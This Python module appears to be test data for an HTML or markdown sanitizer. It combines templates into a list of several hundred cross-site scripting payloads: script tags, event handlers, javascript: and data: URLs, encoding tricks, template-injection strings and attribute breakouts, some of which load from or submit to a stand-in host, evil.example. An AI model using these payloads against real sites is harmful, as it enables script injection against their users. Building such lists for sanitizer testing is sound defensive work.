"""Texts that would run something, fetch something or change the page if they were taken for markup."""

from __future__ import annotations

from itertools import product

CALL = "window.owned=1"
HOST = "//evil.example/x"

_ELEMENTS = (
    "<script>{call}</script>",
    "<SCRIPT\tSRC={host}></SCRIPT>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<img src=x onerror={call}>",
    '<img src="x" onerror="{call}" alt="a picture">',
    "<IMG SRC={host}.png>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>",
    "<iframe src=javascript:{call}>",
    '<iframe srcdoc="<script>parent.{call}</script>">',
    "<object data={host}></object>",
    "<embed src={host}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<form action={host}><button>Send</button></form>",
    "<a href=javascript:{call}>a link</a>",
    "<a id=graphloopPage href={host}>x</a>",
    "<base href={host}>",
    "<meta http-equiv=refresh content=0;url={host}>",
    "<link rel=stylesheet href={host}>",
    "<style>@import '{host}';</style>",
    "<div style=background:url({host})>x</div>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<marquee onstart={call}>x</marquee>",
    "<table background={host}><tr><td>x</td></tr></table>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<!--><script>{call}</script-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<?xml version='1.0'?><script>{call}</script>",
)
_WRAPPERS = ("{}", "words {} words", '">{}', "'>{}", "</div></p>{}")
_ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java&#115;cript:{call}",
    "data:text/html,<script>{call}</script>",
    "vbscript:msgbox(1)",
    "https:{host}",
)
_LINKS = ("[a link]({})", "![a picture]({})", "<{}>", "[a][b] [b]: {}", "{}")
_OTHERS = (
    ":red[red] :material/home: :shimmer[x] :small[x]",
    "$\\href{javascript:window.owned=1}{x}$",
    "$$\\unicode{x}$$ \\(x\\) {{constructor.constructor('window.owned=1')()}}",
    "${window.owned=1} #{window.owned=1} <%= window.owned=1 %>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "&#60;script&#62;window.owned=1&#60;/script&#62;",
    "\u202e<script>window.owned=1</script>\u202c",
    "＜script＞window.owned=1＜/script＞",
    "a\x00<img\x00 src=x onerror=window.owned=1>",
    "\x1b]8;;https://evil.example\x07a link\x1b]8;;\x07",
    "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
    "';window.owned=1;//",
    '";window.owned=1;//',
    "</script><script>window.owned=1</script>",
    "</style><script>window.owned=1</script>",
    "' onmouseover='window.owned=1' x='",
    '" onmouseover="window.owned=1" x="',
    "` onmouseover=`window.owned=1",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(wrapper.format(one.format(call=CALL, host=HOST)) for one, wrapper in product(_ELEMENTS, _WRAPPERS)),
            *(link.format(one.format(call=CALL, host=HOST)) for one, link in product(_ADDRESSES, _LINKS)),
            *_OTHERS,
        )
    )
)
"""Each in one line."""
